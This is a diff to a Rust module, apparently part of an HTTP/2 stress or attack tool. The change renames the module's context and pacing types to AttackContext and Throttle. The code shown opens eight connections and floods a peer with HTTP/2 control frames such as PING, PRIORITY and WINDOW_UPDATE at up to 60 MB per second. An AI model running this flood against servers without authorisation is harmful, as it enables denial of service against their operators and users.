@@ -3,8 +3,8 @@
 use std::io;
 use std::sync::Arc;
 
+use super::super::attack_context::{AttackContext, Throttle};
 use super::super::frames::{Frames, INITIAL_WINDOW, PING, PRIORITY, WINDOW_UPDATE};
-use super::super::ground::{Ground, Pace};
 
 const BYTES_PER_SECOND: u64 = 60_000_000;
 const CONNECTIONS: u64 = 8;
@@ -26,13 +26,13 @@ pub(in super::super) fn rate() -> String {
     format!("{CONNECTIONS} connections, {} MB a second at most", BYTES_PER_SECOND / 1_000_000)
 }
 
-pub(in super::super) async fn begin(ground: Arc<Ground>) {
-    ground.lanes(CONNECTIONS, CONNECTIONS, flood).await;
+pub(in super::super) async fn begin(context: Arc<AttackContext>) {
+    context.lanes(CONNECTIONS, CONNECTIONS, flood).await;
 }
 
-async fn flood(ground: Arc<Ground>, lane: u64) -> io::Result<()> {
+async fn flood(context: Arc<AttackContext>, lane: u64) -> io::Result<()> {
     let frame = FLOODS[(lane % FLOODS.len() as u64) as usize];
-    let mut peer = ground.dial().await?;
+    let mut peer = context.dial().await?;
     peer.send(&Frames::opening(&[]).0).await?;
     let mut block = Frames::default();
     let mut number = 0;
@@ -41,5 +41,5 @@ async fn flood(ground: Arc<Ground>, lane: u64) -> io::Result<()> {
         number += 1;
     }
     let per_second = BYTES_PER_SECOND / CONNECTIONS / BLOCK;
-    peer.flood(Pace::new(per_second), 1, || block.0.clone()).await
+    peer.flood(Throttle::new(per_second), 1, || block.0.clone()).await
 }
